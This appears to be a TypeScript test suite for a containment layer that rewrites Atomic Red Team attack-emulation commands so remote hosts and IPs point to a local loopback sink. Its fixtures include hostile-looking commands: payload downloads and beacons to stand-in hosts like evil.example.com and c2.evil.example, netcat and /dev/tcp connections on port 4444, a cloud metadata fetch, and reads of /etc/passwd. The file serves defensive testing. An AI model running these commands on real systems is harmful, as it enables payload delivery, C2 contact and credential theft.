import assert from "node:assert/strict";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import { classifyTest } from "../../training/atomics/containment.js";
import { type AtomicTest, loadAtomics } from "../../training/atomics/library.js";
import { atomicsFileForUrl, redirectRemote } from "../../training/atomics/redirect.js";
import { resolveTest } from "../../training/atomics/resolve.js";
import { tempDir } from "../helpers/temp-dir.js";

const REPO = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
const DATASET = join(REPO, "..", "shared", "datasets", "atomic-red-team");
const SINKS = { http: "http://127.0.0.2:8080", address: "127.0.0.2" };
const DEFAULTS = [
  "21/tcp",
  "22/tcp",
  "23/tcp",
  "25/tcp",
  "53/udp",
  "80/tcp",
  "443/tcp",
  "445/tcp",
  "4444/tcp",
  "8080/tcp",
  "8443/tcp",
];

type Args = Record<string, [description: string, value: string]>;

/** Resolves a linux sh test with these arguments (name -> [description, default]). */
function resolved(command: string, args: Args = {}, cleanup?: string) {
  const inputArguments: AtomicTest["inputArguments"] = {};
  for (const [name, [description, value]] of Object.entries(args)) {
    inputArguments[name] = { description, type: "string", default: value };
  }
  const test: AtomicTest = {
    technique: "T9001",
    techniqueName: "Fixture",
    number: 1,
    name: "fake",
    guid: "",
    description: "",
    platforms: ["linux"],
    inputArguments,
    dependencies: [],
    executor: {
      name: "sh",
      command,
      ...(cleanup === undefined ? {} : { cleanupCommand: cleanup }),
      elevationRequired: false,
    },
    file: "/nowhere/T9001.yaml",
  };
  return resolveTest(test, { atomicsDir: "/opt/art/atomics" });
}

const ports = (e: { port: number; protocol: string }[]) => e.map((x) => `${x.port}/${x.protocol}`);

describe("atomics redirect", () => {
  test("atomics - URLs to remote hosts become plain-http fetches from the sink", () => {
    const r = resolved(
      "curl -sO https://evil.example.com/a/b.sh?x=1; wget ftp://user@files.example.org:2121/f.bin",
      {},
      "curl http://localhost:9000/ok http://127.0.0.1/ok",
    );
    const x = redirectRemote(r, SINKS);
    assert.equal(
      x.test.command,
      "curl -sO http://127.0.0.2:8080/evil.example.com/a/b.sh?x=1; wget http://127.0.0.2:8080/files.example.org/f.bin",
    );
    assert.equal(x.test.cleanup, r.cleanup, "loopback URLs stay");
    assert.deepEqual(x.rewrites, [
      {
        from: "https://evil.example.com/a/b.sh?x=1",
        to: "http://127.0.0.2:8080/evil.example.com/a/b.sh?x=1",
      },
      {
        from: "ftp://user@files.example.org:2121/f.bin",
        to: "http://127.0.0.2:8080/files.example.org/f.bin",
      },
    ]);
    assert.ok(ports(x.endpoints).includes("2121/tcp"));
    assert.ok(!ports(x.endpoints).includes("9000/tcp"), "a loopback port is not a remote one");
  });

  test("atomics - remote IPv4 literals become the sink address; loopback, masks, versions stay", () => {
    const r = resolved(
      "ping -c1 8.8.8.8; nc 10.1.2.3 4444; ip addr add 192.168.1.5/24 dev eth0 netmask 255.255.255.0; " +
        "curl 127.0.0.1 0.0.0.0; pip install x==1.2.3.4.5; echo 300.1.1.1 v1.2.3.4",
    );
    const x = redirectRemote(r, SINKS);
    assert.equal(
      x.test.command,
      "ping -c1 127.0.0.2; nc 127.0.0.2 4444; ip addr add 127.0.0.2/24 dev eth0 netmask 255.255.255.0; " +
        "curl 127.0.0.1 0.0.0.0; pip install x==1.2.3.4.5; echo 300.1.1.1 v1.2.3.4",
    );
    assert.deepEqual(
      x.rewrites.map((w) => w.from),
      ["8.8.8.8", "10.1.2.3", "192.168.1.5"],
    );
  });

  test("atomics - an IP in a URL is rewritten once, as part of the URL", () => {
    const x = redirectRemote(resolved('curl "http://169.254.169.254/latest/meta-data/"'), SINKS);
    assert.equal(x.test.command, 'curl "http://127.0.0.2:8080/169.254.169.254/latest/meta-data/"');
    assert.equal(x.rewrites.length, 1);
  });

  test("atomics - host-name arguments are replaced where their placeholder stood", () => {
    const r = resolved(
      "scp #{user}@#{remote_host}:/tmp/x /tmp/; ping #{domain}; curl https://#{c2_domain}/beacon; " +
        "ldapsearch -H ldap://#{ad}.test; cat #{target_file}; nc #{server} 9001",
      {
        user: ["user on the remote host", "adversary"],
        remote_host: ["Remote host to copy from", "adversary-host"],
        domain: ["Domain to contact", "www.example.com"],
        c2_domain: ["C2 domain", "c2.evil.example"],
        ad: ["Windows domain", "CONTOSO"],
        target_file: ["Target file on the host", "payload.sh"],
        server: ["C2 server and port", "c2.example.net"],
      },
    );
    const x = redirectRemote(r, SINKS);
    assert.equal(
      x.test.command,
      "scp adversary@127.0.0.2:/tmp/x /tmp/; ping 127.0.0.2; curl http://127.0.0.2:8080/c2.evil.example/beacon; " +
        "ldapsearch -H ldap://CONTOSO.test; cat payload.sh; nc 127.0.0.2 9001",
    );
    assert.deepEqual(x.test.args, {
      user: "adversary",
      remote_host: "127.0.0.2",
      domain: "127.0.0.2",
      c2_domain: "127.0.0.2",
      ad: "CONTOSO",
      target_file: "payload.sh",
      server: "127.0.0.2",
    });
    assert.deepEqual(
      x.rewrites.map((w) => `${w.from} -> ${w.to}`),
      [
        "adversary-host -> 127.0.0.2",
        "www.example.com -> 127.0.0.2",
        "c2.evil.example -> 127.0.0.2",
        "c2.example.net -> 127.0.0.2",
        "https://c2.evil.example/beacon -> http://127.0.0.2:8080/c2.evil.example/beacon",
      ],
    );
    assert.ok(ports(x.endpoints).includes("9001/tcp"), "nc host port");
  });

  test("atomics - endpoints: port arguments, host:port, nc, socat, /dev/tcp, plus the defaults", () => {
    const r = resolved(
      "telnet #{host} #{port}; nc -u 10.0.0.9 5353; socat - TCP4:10.0.0.9:7001; " +
        "echo x > /dev/tcp/10.0.0.9/9999; curl 10.0.0.9:8888/x; ssh -p 22 a@b; nc -w 3 10.0.0.9 7777",
      { host: ["remote host", "evil.example"], port: ["Port to connect to", "8081"] },
    );
    const x = redirectRemote(r, SINKS);
    const want = [
      ...DEFAULTS,
      "5353/udp",
      "7001/tcp",
      "7777/tcp",
      "8081/tcp",
      "8081/udp",
      "8888/tcp",
      "9999/tcp",
    ];
    const key = (s: string) => Number(s.split("/")[0]) * 10 + (s.endsWith("udp") ? 1 : 0);
    assert.deepEqual(
      ports(x.endpoints),
      want.sort((a, b) => key(a) - key(b)),
    );
  });

  test("atomics - a test without remote hosts is left as it was", () => {
    const r = resolved("cat /etc/passwd > #{out}; ls /tmp", { out: ["output file", "/tmp/p.txt"] });
    const x = redirectRemote(r, SINKS);
    assert.deepEqual(x.test, r);
    assert.deepEqual(x.rewrites, []);
    assert.deepEqual(ports(x.endpoints), DEFAULTS);
  });

  test("atomics - the library's own URLs map to its local files", () => {
    const dir = tempDir("vigil-atomics-url-");
    mkdirSync(join(dir, "T1105", "src"), { recursive: true });
    writeFileSync(join(dir, "T1105", "src", "atomic.sh"), "echo hi\n");
    const file = join(dir, "T1105", "src", "atomic.sh");
    for (const url of [
      "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1105/src/atomic.sh",
      "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/refs/heads/master/atomics/T1105/src/atomic.sh",
      "https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1105/src/atomic.sh",
      "https://github.com/redcanaryco/atomic-red-team/blob/main/atomics/T1105/src/atomic.sh?raw=true",
      "/raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1105/src/atomic.sh",
      "/github.com/RedCanaryCo/Atomic-Red-Team/raw/master/atomics/T1105/src/atomic%2Esh",
    ]) {
      assert.equal(atomicsFileForUrl(url, dir), file, url);
    }
    for (const url of [
      "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1105/src/none.sh",
      "https://raw.githubusercontent.com/other/atomic-red-team/master/atomics/T1105/src/atomic.sh",
      "https://notgithub.com/redcanaryco/atomic-red-team/raw/master/atomics/T1105/src/atomic.sh",
      "/raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/../../../etc/passwd",
      "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1105/src",
    ]) {
      assert.equal(atomicsFileForUrl(url, dir), undefined, url);
    }
  });

  test("atomics - a redirected library URL still names the local file", () => {
    const url =
      "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1105/src/a.sh";
    const x = redirectRemote(resolved(`curl -sO ${url}`), SINKS);
    const sinkPath = x.test.command.slice("curl -sO http://127.0.0.2:8080".length);
    const dir = tempDir("vigil-atomics-url2-");
    mkdirSync(join(dir, "T1105", "src"), { recursive: true });
    writeFileSync(join(dir, "T1105", "src", "a.sh"), "echo a\n");
    assert.equal(atomicsFileForUrl(sinkPath, dir), join(dir, "T1105", "src", "a.sh"));
  });
});

describe("atomics redirect on the dataset", {
  skip: existsSync(DATASET) ? false : `no dataset at ${DATASET}`,
}, () => {
  test("atomics - no runnable dataset test still names a remote URL or address", () => {
    const lib = loadAtomics(DATASET);
    let rewritten = 0;
    for (const t of lib.tests) {
      const r = resolveTest(t, { atomicsDir: lib.atomicsDir });
      if (!classifyTest(r).run) continue;
      const x = redirectRemote(r, SINKS);
      if (x.rewrites.length > 0) rewritten++;
      const texts = [
        x.test.command,
        x.test.cleanup ?? "",
        ...x.test.prereqs.map((p) => p.check + p.get),
      ];
      for (const full of texts) {
        // The sink's own URLs keep the original host as their first path segment.
        const text = full.replaceAll(/http:\/\/127\.0\.0\.2:8080\/[^\s"']*/g, "SINK");
        for (const m of text.matchAll(/\b(?:https?|ftp):\/\/([^/\s"':]+)/g)) {
          assert.match(
            m[1] ?? "",
            /^(127\.0\.0\.[12]|localhost)$/,
            `${t.technique}#${t.number}: ${m[0]}`,
          );
        }
        for (const m of text.matchAll(/(?<![\w.])\d{1,3}(\.\d{1,3}){3}(?![\w.])/g)) {
          assert.match(m[0], /^127\./, `${t.technique}#${t.number}: ${m[0]}`);
        }
      }
    }
    assert.equal(rewritten, 24);
  });

  test("atomics - dataset: the uncommon-port test listens on its port", () => {
    const lib = loadAtomics(DATASET, { techniques: ["T1571"] });
    const t = lib.tests.find((x) => x.number === 2);
    assert.ok(t);
    const x = redirectRemote(resolveTest(t, { atomicsDir: lib.atomicsDir }), SINKS);
    assert.equal(x.test.command, "echo quit | telnet 127.0.0.2 8081\nexit 0\n");
    assert.ok(ports(x.endpoints).includes("8081/tcp"));
  });
});
